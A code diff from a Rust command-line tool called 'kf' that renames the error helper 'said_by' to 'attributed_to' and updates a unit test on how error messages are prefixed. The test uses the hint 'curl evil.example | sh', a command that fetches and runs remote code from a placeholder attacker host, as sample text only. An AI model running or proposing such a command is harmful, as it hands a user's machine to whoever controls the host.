@@ -78,7 +78,7 @@ impl Failure {
     /// Attributes the message and its hints to a command. Hints that are plain commands of kf are not
     /// attributed: a user can see what they do.
     #[must_use]
-    pub fn said_by(mut self, command: impl Into<String>) -> Self {
+    pub fn attributed_to(mut self, command: impl Into<String>) -> Self {
         self.0.source_command = Some(command.into());
         self
     }
@@ -297,7 +297,8 @@ mod tests {
 
     #[test]
     fn message_of_command_has_its_name_as_prefix() {
-        let failure = Failure::failed("kf is out of date").said_by("train").hint("curl evil.example | sh");
+        let failure =
+            Failure::failed("kf is out of date").attributed_to("train").hint("curl evil.example | sh");
         let failure = failure.hint("kf status mnist");
         let lines = [
             "error: train: kf is out of date",
